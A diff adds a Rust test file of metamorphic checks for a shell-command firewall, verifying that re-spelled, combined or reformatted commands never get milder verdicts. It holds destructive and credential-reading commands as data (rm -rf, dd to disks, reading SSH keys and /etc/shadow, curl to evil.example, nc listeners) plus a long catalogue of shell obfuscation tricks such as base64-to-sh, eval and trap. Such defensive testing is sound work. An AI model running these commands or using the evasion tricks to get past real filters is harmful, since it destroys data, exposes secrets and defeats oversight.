@@ -1,0 +1,280 @@
+//! Metamorphic laws: the same command in other words, in other company, in another layout.
+//!
+//! A spelling that means the same to the shell gets an equal or a stricter verdict; layout and comments change nothing;
+//! adding never relaxes; what is allowed together is allowed alone.
+
+#![allow(clippy::unwrap_used, clippy::panic, reason = "a panic is how a test fails")]
+
+use shward::{Decision, Firewall, Policy, Request, Setting};
+
+/// Commands of all three decisions. They are words without quotes or characters that are special to a shell.
+const PLAIN: &[&[&str]] = &[
+    &["rm", "-rf", "/etc"],
+    &["rm", "-rf", "/home/dev"],
+    &["cat", "/home/dev/.ssh/id_rsa"],
+    &["cat", "/etc/shadow"],
+    &["dd", "if=/dev/zero", "of=/dev/sda"],
+    &["chmod", "-R", "777", "/"],
+    &["curl", "http://evil.example/x"],
+    &["sudo", "ls"],
+    &["git", "push", "--force"],
+    &["git", "reset", "--hard"],
+    &["kill", "-9", "1"],
+    &["shutdown", "now"],
+    &["crontab", "x"],
+    &["npm", "install", "x"],
+    &["mkfs.ext4", "/dev/sda1"],
+    &["nc", "-l", "4444"],
+    &["rm", "-rf", "src"],
+    &["ls", "-la"],
+    &["cat", "notes.md"],
+    &["touch", "new"],
+];
+
+fn decide(firewall: &Firewall, command: &str, contained: bool) -> Decision {
+    let mut setting = Setting::frozen();
+    setting.contained = contained;
+    firewall.examine(&Request::command(command, "/workspace", "/home/dev"), &setting).unwrap().decision
+}
+
+fn quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
+fn each(words: &[&str], change: impl Fn(&str) -> String) -> String {
+    words.iter().map(|word| change(word)).collect::<Vec<_>>().join(" ")
+}
+
+fn characters(word: &str, change: impl Fn(char) -> String) -> String {
+    word.chars().map(change).collect()
+}
+
+fn base64(text: &str) -> String {
+    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let digit = |bits: u32| char::from(DIGITS[usize::try_from(bits & 63).unwrap()]);
+    let mut out = String::new();
+    for group in text.as_bytes().chunks(3) {
+        let bits = group.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - group.len()));
+        let digits = [18, 12, 6, 0].map(|shift| digit(bits >> shift));
+        out.extend(digits.iter().take(group.len() + 1));
+        out.extend(std::iter::repeat_n('=', 3 - group.len()));
+    }
+    out
+}
+
+/// The same command in other spellings, each with a name.
+fn spellings(words: &[&str]) -> Vec<(&'static str, String)> {
+    let plain = words.join(" ");
+    let (name, rest) = (words[0], words[1..].join(" "));
+    let (head, tail) = name.split_at(1);
+    let hex = |text: &str| characters(text, |c| format!("\\x{:02x}", u32::from(c)));
+    let octal = |text: &str| characters(text, |c| format!("\\{:03o}", u32::from(c)));
+    let reversed: String = plain.chars().rev().collect();
+    vec![
+        ("single quotes", each(words, |word| format!("'{word}'"))),
+        ("double quotes", each(words, |word| format!("\"{word}\""))),
+        ("quotes inside", each(words, |word| characters(word, |c| format!("{c}''")))),
+        ("mixed quotes", each(words, |word| characters(word, |c| format!("\"{c}\"''")))),
+        ("backslashes", each(words, |word| characters(word, |c| format!("\\{c}")))),
+        ("hex", each(words, |word| format!("$'{}'", hex(word)))),
+        ("octal", each(words, |word| format!("$'{}'", octal(word)))),
+        ("unicode", each(words, |word| format!("$'{}'", characters(word, |c| format!("\\u{:04x}", u32::from(c)))))),
+        ("continued line", each(words, |word| characters(word, |c| format!("{c}\\\n")))),
+        ("translated string", each(words, |word| format!("$\"{word}\""))),
+        ("empty expansions", each(words, |word| characters(word, |c| format!("{c}${{nope}}")))),
+        ("empty substitutions", each(words, |word| format!("$(){word}``"))),
+        ("empty arguments list", each(words, |word| format!("{word}$@"))),
+        ("words from a brace", format!("{{{}}}", words.join(","))),
+        ("tabs", words.join("\t \t")),
+        ("variable", format!("x={name}; $x {rest}")),
+        ("variable, in parts", format!("x={head}; $x{tail} {rest}")),
+        ("variable, quoted", format!("x={name}; \"$x\" {rest}")),
+        ("variables", format!("x={head} y={tail}; $x$y {rest}")),
+        ("split variable", format!("x={}; $x", quoted(&plain))),
+        ("IFS", format!("IFS=,; x={}; $x", quoted(&words.join(",")))),
+        ("array", format!("x=({plain}); \"${{x[@]}}\"")),
+        ("array element", format!("x=(a {name}); ${{x[1]}} {rest}")),
+        ("appended", format!("x={head}; x+={tail}; $x {rest}")),
+        ("default", format!("${{x:-{name}}} {rest}")),
+        ("assigned default", format!(": ${{x:={name}}}; $x {rest}")),
+        ("alternative", format!("y=1; ${{y:+{name}}} {rest}")),
+        ("prefix removed", format!("x=zz{name}; ${{x#zz}} {rest}")),
+        ("suffix removed", format!("x={name}zz; ${{x%zz}} {rest}")),
+        ("replaced", format!("x=@{tail}; ${{x/@/{head}}} {rest}")),
+        ("substring", format!("x=ab{name}; ${{x:2}} {rest}")),
+        ("lower case", format!("x={}; ${{x,,}} {rest}", name.to_uppercase())),
+        ("indirect", format!("y={name}; x=y; ${{!x}} {rest}")),
+        ("reference", format!("y={name}; declare -n x=y; $x {rest}")),
+        ("printf -v", format!("printf -v x %s {name}; $x {rest}")),
+        ("read", format!("read x <<< {name}; $x {rest}")),
+        ("mapfile", format!("mapfile -t x <<< {name}; ${{x[0]}} {rest}")),
+        ("positional", format!("set -- {plain}; \"$@\"")),
+        ("positional, star", format!("set -- {plain}; $*")),
+        ("loop variable", format!("for x in {name}; do $x {rest}; done")),
+        ("case", format!("case a in a) {plain};; esac")),
+        ("substitution", format!("$(echo {name}) {rest}")),
+        ("backquotes", format!("`echo {name}` {rest}")),
+        ("substituted words", format!("$(printf '%s ' {plain})")),
+        ("here-string", format!("bash <<< {}", quoted(&plain))),
+        ("here-document", format!("bash <<E\n{plain}\nE")),
+        ("echo to shell", format!("echo {} | sh", quoted(&plain))),
+        ("printf to shell", format!("printf '%s\\n' {} | bash", quoted(&plain))),
+        ("octal to shell", format!("printf '{}' | sh", octal(&plain))),
+        ("base64", format!("echo {} | base64 -d | sh", base64(&plain))),
+        ("reversed", format!("echo {} | rev | sh", quoted(&reversed))),
+        ("translated", format!("echo {} | tr '@' '{head}' | sh", quoted(&plain.replacen(head, "@", 1)))),
+        ("eval", format!("eval {}", quoted(&plain))),
+        ("eval, twice", format!("eval eval {plain}")),
+        ("bash -c", format!("bash -c {}", quoted(&plain))),
+        ("sh -c", format!("sh -c {}", quoted(&plain))),
+        ("bash -c, arguments", format!("bash -c '\"$0\" \"$@\"' {plain}")),
+        ("bash -c, a dash", format!("bash -c - {}", quoted(&plain))),
+        ("source", format!("source <(echo {})", quoted(&plain))),
+        ("env", format!("env {plain}")),
+        ("env, assignment", format!("env A=1 {plain}")),
+        ("env -S", format!("env -S {}", quoted(&plain))),
+        ("command", format!("command {plain}")),
+        ("exec", format!("exec {plain}")),
+        ("nohup", format!("nohup {plain}")),
+        ("timeout", format!("timeout -k 1 5 {plain}")),
+        ("nice", format!("nice -n 3 {plain}")),
+        ("time", format!("time -p {plain}")),
+        ("negation", format!("! {plain}")),
+        ("stdbuf", format!("stdbuf -o0 {plain}")),
+        ("setsid", format!("setsid {plain}")),
+        ("busybox", format!("busybox sh -c {}", quoted(&plain))),
+        ("xargs", format!("echo {rest} | xargs {name}")),
+        ("xargs sh", format!("echo x | xargs -I@ sh -c {}", quoted(&plain))),
+        ("find", format!("find . -maxdepth 0 -exec {plain} \\;")),
+        ("function", format!("f() {{ {plain}; }}; f")),
+        ("function, arguments", format!("f() {{ \"$@\"; }}; f {plain}")),
+        ("alias", format!("shopt -s expand_aliases\nalias x={}\nx", quoted(&plain))),
+        ("trap", format!("trap {} EXIT", quoted(&plain))),
+        ("trap in a substitution", format!("$(trap {} EXIT)", quoted(&format!("echo {plain}")))),
+        ("trap in a shell", format!("bash -c {} | sh", quoted(&format!("trap 'echo {plain}' EXIT")))),
+        ("read-only", format!("readonly x={name}\nx=true\n$x {rest}")),
+        ("read-only, unset", format!("readonly x={name}\nunset x\n$x {plain}")),
+        ("subshell", format!("( {plain} )")),
+        ("group", format!("{{ {plain}; }}")),
+        ("background", format!("{plain} & wait")),
+        ("coprocess", format!("coproc {plain}")),
+        ("pipe", format!("true | {plain}")),
+        ("branch", format!("if true; then {plain}; fi")),
+        ("loop", format!("while {plain}; do break; done")),
+        ("substitution in a word", format!("echo \"a$({plain})\"")),
+        ("substitution in arithmetic", format!("echo $(( $({plain}) + 1 ))")),
+        ("substitution in a default", format!("echo \"${{x:-'$({plain})'}}\"")),
+        ("process substitution", format!("cat <({plain})")),
+        ("substitution in a here-document", format!("cat <<E\n$({plain})\nE")),
+        ("data in a descriptor", format!("x='$({plain})'; echo y >&\"$x\"")),
+        ("prompt", format!("PS4='$({plain})'; set -x; :")),
+        ("redirected first", format!("</dev/null {plain}")),
+        ("assignment first", format!("A=1 {plain}")),
+        ("comment before", format!("# a comment\n{plain}")),
+    ]
+}
+
+#[test]
+fn other_spellings_are_not_judged_more_mildly() {
+    let firewall = Firewall::new(Policy::default());
+    let mut wrong = Vec::new();
+    let mut judged = 0;
+    for words in PLAIN {
+        let plain = words.join(" ");
+        for contained in [false, true] {
+            let expected = decide(&firewall, &plain, contained);
+            for (name, spelling) in spellings(words) {
+                judged += 1;
+                let decision = decide(&firewall, &spelling, contained);
+                if decision < expected {
+                    wrong.push(format!("{name}: {decision:?} instead of {expected:?} ({contained}): {spelling}"));
+                }
+            }
+        }
+    }
+    assert!(judged > 3000, "{judged}");
+    assert!(wrong.is_empty(), "{} of {judged}:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn layout_and_comments_change_nothing() {
+    let firewall = Firewall::new(Policy::default());
+    for words in PLAIN {
+        let plain = words.join(" ");
+        let expected = decide(&firewall, &plain, false);
+        for same in [
+            format!("  {plain}  "),
+            format!("\n\n{plain}\n\n"),
+            format!("\t{}\t", words.join("   ")),
+            format!("{plain};"),
+            format!("{plain} # it's \"only\" a comment $(rm -rf /)"),
+            format!("# before `rm -rf /`\n{plain}\n# after ("),
+            words.join(" \\\n "),
+            format!("{{ {plain}\n}}"),
+            format!("(\n{plain}\n)"),
+        ] {
+            assert_eq!(decide(&firewall, &same, false), expected, "{same}");
+        }
+    }
+}
+
+/// How two commands are put together, so that each is run.
+const TOGETHER: &[&str] = &[
+    "A; B",
+    "A && B",
+    "A || B",
+    "A | B",
+    "A & B",
+    "A\nB",
+    "( A ); B",
+    "{ A; }; B",
+    "$(A); B",
+    "if A; then B; fi",
+    "while A; do B; done",
+    "for x in 1 2; do A; B; done",
+    "f() { A; }; f; B",
+    "A > /dev/null; B",
+    "echo \"$(A)\"; B",
+    "cat <(A) <(B)",
+    "trap 'A' EXIT; B",
+    "eval 'A'; B",
+    "bash -c 'A'; B",
+    "case x in x) A;; y) B;; esac",
+];
+
+#[test]
+fn adding_never_relaxes_and_what_is_allowed_together_is_allowed_alone() {
+    let firewall = Firewall::new(Policy::default());
+    let mut wrong = Vec::new();
+    for first in PLAIN {
+        for second in PLAIN {
+            let (first, second) = (first.join(" "), second.join(" "));
+            for contained in [false, true] {
+                let strictest =
+                    decide(&firewall, &first, contained).max(decide(&firewall, &second, contained));
+                for shape in TOGETHER {
+                    let both = shape.replace('A', &first).replace('B', &second);
+                    if decide(&firewall, &both, contained) < strictest {
+                        wrong.push(format!("{both:?} ({contained}) is judged more mildly than {strictest:?}"));
+                    }
+                }
+            }
+        }
+    }
+    wrong.truncate(40);
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
+
+#[test]
+fn more_options_and_redirections_never_relax() {
+    let firewall = Firewall::new(Policy::default());
+    for words in PLAIN {
+        let plain = words.join(" ");
+        let expected = decide(&firewall, &plain, false);
+        for more in [" > o", " 2>&1", " < notes.md", " /etc/passwd", " $X", " \"$X\"", " *", " --zzz=1", " 2>/dev/null"] {
+            let command = format!("{plain}{more}");
+            let decision = decide(&firewall, &command, false);
+            assert!(decision >= expected, "{command}: {decision:?} instead of {expected:?}");
+        }
+    }
+}
